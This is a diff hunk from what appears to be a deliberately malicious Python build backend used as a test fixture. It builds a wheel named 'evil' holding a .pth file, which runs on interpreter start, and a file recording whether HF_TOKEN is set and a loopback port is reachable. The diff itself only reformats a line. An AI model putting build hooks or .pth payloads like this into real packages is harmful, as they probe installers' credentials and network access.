@@ -37,7 +37,8 @@ def get_requires_for_build_wheel(config_settings=None):
 def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     saw = f"token: {'HF_TOKEN' in os.environ}, loopback: {_reach(PORT)}"
     name = "evil-0.1-py3-none-any.whl"
-    files = {"evil.pth": PTH, "evil_saw.txt": saw, "evil-0.1.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 0.1\\n",
+    files = {"evil.pth": PTH, "evil_saw.txt": saw,
+             "evil-0.1.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 0.1\\n",
              "evil-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: evil\\nRoot-Is-Purelib: true\\n"
                                          "Tag: py3-none-any\\n"}
     record = ""
